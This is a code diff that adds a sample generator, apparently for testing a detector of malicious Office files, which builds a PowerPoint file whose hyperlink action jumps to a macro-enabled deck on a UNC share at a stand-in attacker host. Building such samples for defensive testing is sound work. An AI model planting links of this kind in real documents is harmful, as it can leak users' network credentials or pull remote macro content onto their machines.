@@ -275,3 +275,15 @@ def pptx_svg_blip(work: Path) -> bytes:
     )
     package.put(SLIDE, slide_xml)
     return package.bytes()
+
+
+@sample(
+    "pptx_hlinkpres_unc",
+    ".pptx",
+    "ppaction",
+    "ppaction://hlinkpres: jump into another presentation on a share",
+)
+def pptx_hlinkpres_unc(work: Path) -> bytes:
+    return _pptx_action(
+        "ppaction://hlinkpres?slideindex=1&slidetitle=", "\\\\attacker.example\\share\\deck.ppsm"
+    )
